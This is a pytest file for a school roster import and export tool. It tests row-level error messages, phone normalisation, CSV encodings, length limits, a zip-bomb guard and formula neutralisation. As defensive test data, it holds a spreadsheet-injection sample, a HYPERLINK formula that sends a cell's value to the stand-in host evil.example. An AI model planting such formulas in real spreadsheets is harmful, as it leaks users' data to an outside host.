"""Roster import: a realistic 1,200-student workbook (deploy/examples/school.yaml), its problems at their rows,
and the time a check and an apply take against a real Redis."""

from __future__ import annotations

import datetime as dt
import io
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import redis
from openpyxl import load_workbook
from support.admin import EXAMPLE, bomb_workbook, workbook_bytes
from support.spine import delete_school_keys

from relay.base.directory import current_version, export_yaml, load_yaml, publish
from relay.base.runtime import Runtime
from relay.base.settings import Settings
from relay.school import admin, roster_files
from relay.school.roster import check_roster, guardian_id_for, normalize_phone
from relay.school.roster_files import read_upload
from routing.directory import Directory, School


@pytest.fixture(scope="module")
def example() -> School:
    return load_yaml(EXAMPLE).schools[0]


@pytest.fixture
def made() -> list[str]:
    """The school ids a test made."""
    return []


@pytest.fixture
def runtime(redis_url: str, made: list[str]) -> Iterator[Runtime]:
    connection = redis.Redis.from_url(redis_url)
    yield Runtime(Settings(queue_prefix="relayadmin-" + uuid.uuid4().hex[:8]), connection=connection)
    delete_school_keys(connection, made)


@pytest.fixture
def published(runtime: Runtime, made: list[str]) -> Callable[[School], School]:
    def publish_as_new(school: School) -> School:
        school = school.model_copy(update={"id": "t-" + uuid.uuid4().hex[:8]})
        made.append(school.id)
        publish(runtime.redis, Directory(schools=(school,)))
        return school

    return publish_as_new


def _now(runtime: Runtime, school_id: str) -> tuple[int, School]:
    found = current_version(runtime.redis, school_id)
    assert found is not None
    return found


def _cell(book: Any, sheet: str, row: int, header: str) -> Any:
    columns = [c.value for c in book[sheet][1]]
    return book[sheet].cell(row, columns.index(header) + 1)


def test_a_1200_student_workbook_with_mistakes_reports_each_at_its_row(example: School, runtime: Runtime, published: Callable[[School], School],
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    school = published(example)
    book = load_workbook(io.BytesIO(roster_files.workbook(school)))
    assert book["学生"].max_row == 1201
    _cell(book, "学生", 10, "班级").value = "g9c9"
    _cell(book, "学生", 20, "学号").value = _cell(book, "学生", 2, "学号").value
    _cell(book, "学生", 30, "家长1电话").value = "1380000"
    _cell(book, "学生", 40, "家长1编号").value = "g-shared"
    _cell(book, "学生", 41, "家长1编号").value = "g-shared"  # and another phone
    _cell(book, "学生", 50, "家长2姓名").value = None
    _cell(book, "班级", 5, "教务老师").value = None
    _cell(book, "班级", 6, "教务老师").value = "t-hr-11"  # a homeroom teacher
    _cell(book, "教职工", 3, "角色").value = "教务、厨师"
    upload = [("file", "名单.xlsx", workbook_bytes(book))]

    started = time.perf_counter()
    checked, import_id, version = admin.stage_import(runtime, school.id, upload, "t-ma-principal")
    seconds = time.perf_counter() - started
    assert import_id is None and checked.school is None
    found = {(p.sheet, p.row, p.column): p.message for p in checked.problems}
    assert set(found) == {
        ("学生", 10, "班级"), ("学生", 20, "学号"), ("学生", 30, "家长1电话"), ("学生", 41, "家长1电话"),
        ("学生", 50, "家长2姓名"), ("班级", 5, "教务老师"), ("班级", 6, "教务老师"), ("教职工", 3, "角色"),
    }, "\n".join(str(p) for p in checked.problems)
    assert found[("学生", 10, "班级")] == "未知班级「g9c9」（班级表中没有这个编号或名称）"
    assert found[("学生", 20, "学号")] == "学号 s-1001 重复（与第2行相同）"
    assert found[("学生", 30, "家长1电话")].startswith("电话号码格式不对：1380000")
    assert "同一位家长（编号 g-shared）有两个不同的电话：第40行是" in found[("学生", 41, "家长1电话")]
    assert found[("班级", 5, "教务老师")].startswith("这个班没有教务老师")
    assert "没有「教务」角色" in found[("班级", 6, "教务老师")]
    assert "厨师" in found[("教职工", 3, "角色")]
    assert "学生 第10行「班级」：未知班级「g9c9」（班级表中没有这个编号或名称）" in [str(p) for p in checked.problems]
    assert _now(runtime, school.id)[0] == version  # nothing applied
    with capsys.disabled():
        print(f"\n1,200-student workbook with 8 mistakes: checked in {seconds * 1000:.0f} ms")


def test_a_valid_1200_student_import_is_one_new_version(example: School, runtime: Runtime, published: Callable[[School], School],
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    school = published(example)
    before, _ = _now(runtime, school.id)
    book = load_workbook(io.BytesIO(roster_files.workbook(school)))
    _cell(book, "学生", 2, "班级").value = "二年级1班"  # moved class, written by name
    book["学生"].append(["s-9001", "新同学", "g1c1", "新同学妈妈", "139 0000 9001", "妈妈"])
    book["学生"].append(["s-9002", "新同学的妹妹", "g1c2", "新同学妈妈", "+86 139-0000-9001", "母亲"])
    upload = [("file", "名单.xlsx", workbook_bytes(book))]

    started = time.perf_counter()
    checked, import_id, _ = admin.stage_import(runtime, school.id, upload, "t-ma-principal")
    checked_at = time.perf_counter()
    assert import_id is not None, [str(p) for p in checked.problems]
    done = admin.apply_import(runtime, school.id, import_id, "t-ma-principal")
    applied_at = time.perf_counter()
    with capsys.disabled():
        print(f"\n1,202-student import: check {(checked_at - started) * 1000:.0f} ms + apply "
              f"{(applied_at - checked_at) * 1000:.0f} ms = {(applied_at - started) * 1000:.0f} ms")

    assert (done.previous, done.version) == (before, before + 1)
    version, now = _now(runtime, school.id)
    assert version == done.version and len(now.students) == 1202
    moved, *sisters = (now.student(s) for s in ("s-1001", "s-9001", "s-9002"))
    assert moved is not None and moved.class_id == "g2c1"
    assert [s.guardians[0].id for s in sisters if s] == [guardian_id_for(school.id, "+8613900009001")] * 2
    assert now.guardian("g-1001a") is not None, "a guardian already known keeps their id (and their sign-in)"
    assert now.sla == school.sla and now.closures == school.closures and now.hours == school.hours
    assert runtime.redis.get(f"relay:{school.id}:admin:import:{import_id}") is None, "an import applies once"


def test_csv_files_in_gbk_or_utf8_and_a_sheet_left_out(example: School, runtime: Runtime,
                                                        published: Callable[[School], School]) -> None:
    school = published(example)
    staff_csv = roster_files.csv_file("staff", school)
    students_gbk = roster_files.csv_file("students", school).decode("utf-8-sig").encode("gb18030")
    upload = [("staff", "教职工.csv", staff_csv), ("students", "export.csv", students_gbk)]
    checked, import_id, _ = admin.stage_import(runtime, school.id, upload, "t-ma-principal")
    assert import_id is not None, [str(p) for p in checked.problems]
    assert checked.summary["kept"] == ["班级"]
    assert checked.school is not None and checked.school.model_dump() == school.model_dump()


def test_leave_survives_an_import_and_the_last_administrator_cannot_be_dropped(
        example: School, runtime: Runtime, published: Callable[[School], School]) -> None:
    school = published(example)
    admin.add_leave(runtime, school.id, "t-wang", dt.date(2031, 3, 2), dt.date(2031, 3, 6), "t-sun", "t-ma-principal")
    book = load_workbook(io.BytesIO(roster_files.workbook(school)))  # written before the leave
    checked, import_id, _ = admin.stage_import(runtime, school.id, [("file", "a.xlsx", workbook_bytes(book))], "x")
    assert import_id is not None
    admin.apply_import(runtime, school.id, import_id, "t-ma-principal")
    _, now = _now(runtime, school.id)
    wang = now.staff_member("t-wang")
    assert wang is not None and wang.leave[0].backup == "t-sun"

    _cell(book, "教职工", next(r for r in range(2, 40) if _cell(book, "教职工", r, "工号").value == "t-ma-principal"),
          "角色").value = "校医"
    checked, import_id, _ = admin.stage_import(runtime, school.id, [("file", "a.xlsx", workbook_bytes(book))], "x")
    assert import_id is None and "没有「管理员」或「校长」" in str(checked.problems[0])


def test_english_headers_and_what_is_not_a_roster() -> None:
    school = load_yaml(EXAMPLE).schools[0]
    csv_text = "student_id,name,class,guardian1_name,guardian1_phone\ns-1,A,g1c1,B,13800000000\n"
    sheets = read_upload([("students", "students.csv", csv_text.encode())])
    checked = check_roster(school, sheets)
    assert checked.school is not None and len(checked.school.students) == 1
    assert checked.summary["kept"] == ["教职工", "班级"]
    missing = check_roster(school, read_upload([("students", "s.csv", b"name,class\nA,g1c1\n")]))
    assert [(p.sheet, p.row, p.column) for p in missing.problems] == [("学生", 1, "学号")]
    assert check_roster(school, {}).problems[0].sheet == "文件"
    with pytest.raises(roster_files.RosterFileError):
        read_upload([("file", "roster.xlsx", b"PK\x03\x04 not really a zip")])


@pytest.mark.parametrize(("written", "stored"), [
    ("13800000000", "+8613800000000"), ("138 0000 0000", "+8613800000000"), ("+86-138-0000-0000", "+8613800000000"),
    ("8613800000000", "+8613800000000"), ("0429-5123456", "04295123456"), ("+85291234567", "+85291234567"),
    ("1380000", None), ("12800000000", None), ("abc", None), ("+8612345", None),
])
def test_phone_numbers(written: str, stored: str | None) -> None:
    assert normalize_phone(written) == stored


def test_a_restart_with_the_same_file_keeps_what_administrators_changed(runtime: Runtime, made: list[str],
                                                                        tmp_path: Path) -> None:
    from relay.school.startup import publish_configured

    school = load_yaml(EXAMPLE).schools[0].model_copy(update={"id": "t-" + uuid.uuid4().hex[:8]})
    made.append(school.id)
    path = tmp_path / "school.yaml"
    path.write_text(export_yaml([school]), encoding="utf-8")
    first = publish_configured(runtime, path)[school.id]
    changed = admin.add_leave(runtime, school.id, "t-wang", dt.date(2031, 3, 2), dt.date(2031, 3, 6), "t-sun", "adm")
    assert publish_configured(runtime, path)[school.id] == changed.version == first + 1
    path.write_text(export_yaml([school.model_copy(update={"name": "兴城市第一小学（新校区）"})]), encoding="utf-8")
    assert publish_configured(runtime, path)[school.id] == first + 2, "an edited file is published at start"


def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_it_is_read(example: School) -> None:
    bomb = bomb_workbook(roster_files.MAX_UNPACKED_BYTES + 1024 * 1024)
    assert len(bomb) < 100 * 1024
    with pytest.raises(roster_files.RosterFileError, match="24 MB"):
        read_upload([("file", "roster.xlsx", bomb)])
    assert read_upload([("file", "roster.xlsx", bomb_workbook(1024))])["students"].rows, "a small one is read"


def test_every_field_has_a_maximum_length_reported_at_its_cell(example: School) -> None:
    book = load_workbook(io.BytesIO(roster_files.workbook(example)))
    _cell(book, "学生", 2, "姓名").value = "张" * 51
    _cell(book, "学生", 3, "家长1电话").value = "1" * 5000
    _cell(book, "学生", 4, "家长1关系").value = "妈" * 21
    _cell(book, "学生", 5, "学号").value = "s" * 65
    _cell(book, "教职工", 2, "姓名").value = "王" * 32767  # as long as Excel lets a cell be
    _cell(book, "班级", 2, "班级名称").value = "班" * 51
    checked = check_roster(example, read_upload([("file", "roster.xlsx", workbook_bytes(book))]))
    assert checked.school is None
    too_long = {(p.sheet, p.row, p.column): p.message for p in checked.problems if p.message.startswith("太长了")}
    assert too_long == {
        ("学生", 2, "姓名"): "太长了：最多 50 个字符，这里有 51 个",
        ("学生", 3, "家长1电话"): "太长了：最多 20 个字符，这里有 5000 个",
        ("学生", 4, "家长1关系"): "太长了：最多 20 个字符，这里有 21 个",
        ("学生", 5, "学号"): "太长了：最多 64 个字符，这里有 65 个",
        ("教职工", 2, "姓名"): "太长了：最多 50 个字符，这里有 32767 个",
        ("班级", 2, "班级名称"): "太长了：最多 50 个字符，这里有 51 个",
    }
    assert max(len(str(p)) for p in checked.problems) < 200, "no message quotes an over-long cell back"


def test_the_directory_refuses_an_over_long_name_from_any_source(example: School) -> None:
    document = example.model_dump(mode="json")
    document["students"][0]["name"] = "张" * 51
    with pytest.raises(ValueError, match="at most 50 characters"):
        School.model_validate(document)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_an_export_writes_no_live_formula_and_reads_back_what_it_wrote(example: School) -> None:
    students = list(example.students)
    for n, text in enumerate(FORMULAS):
        guardians = tuple(g.model_copy(update={"relation": text[:20]}) for g in students[n].guardians)
        students[n] = students[n].model_copy(update={"name": text, "guardians": guardians})
    staff = [example.staff[0].model_copy(update={"name": "=1+2"}), *example.staff[1:]]
    school = example.model_copy(update={"students": tuple(students), "staff": tuple(staff)})

    book = load_workbook(io.BytesIO(roster_files.workbook(school)))  # as Excel would: formulas are formulas
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = [book["学生"].cell(n + 2, 2).value for n in range(len(FORMULAS))]
    assert names == ["'" + text for text in FORMULAS]
    assert str(_cell(book, "学生", 2, "家长1电话").value).startswith("1"), "a mainland mobile is written without +86"
    assert roster_files.neutralised("\t=1+1") == "'\t=1+1" and roster_files.neutralised("\r=1") == "'\r=1"
    for kind in ("students", "staff"):
        rows = roster_files.csv_file(kind, school).decode("utf-8-sig").splitlines()
        assert not any(field.startswith(roster_files.FORMULA_STARTS) for line in rows for field in line.split(","))

    for upload in ([("file", "roster.xlsx", roster_files.workbook(school))],
                   [(kind, f"{kind}.csv", roster_files.csv_file(kind, school)) for kind in roster_files.SHEETS]):
        checked = check_roster(school, read_upload(upload))
        assert checked.school is not None, [str(p) for p in checked.problems]
        assert [s.name for s in checked.school.students[:len(FORMULAS)]] == FORMULAS
        assert checked.school.staff[0].name == "=1+2"
        assert checked.school.model_dump() == school.model_dump(), "download, upload: the same directory"
